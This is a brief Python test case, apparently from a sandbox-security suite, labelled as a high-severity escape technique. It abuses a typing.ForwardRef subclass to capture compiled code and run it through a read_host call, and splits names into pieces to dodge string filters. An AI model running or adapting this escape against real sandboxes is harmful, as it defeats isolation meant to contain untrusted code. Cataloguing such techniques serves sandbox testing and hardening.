# technique: a subclass of forward references is handed the code that its text compiles to
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import typing

found = {}

class Reference(typing.ForwardRef, _root=True):
    def __setattr__(self, name, value):
        found[name] = value

def trick():
    try:
        Reference("op" + "en")
    except Exception:
        pass
    return type(trick)(found["__forward_" + "code__"], {})()

read_host(trick)
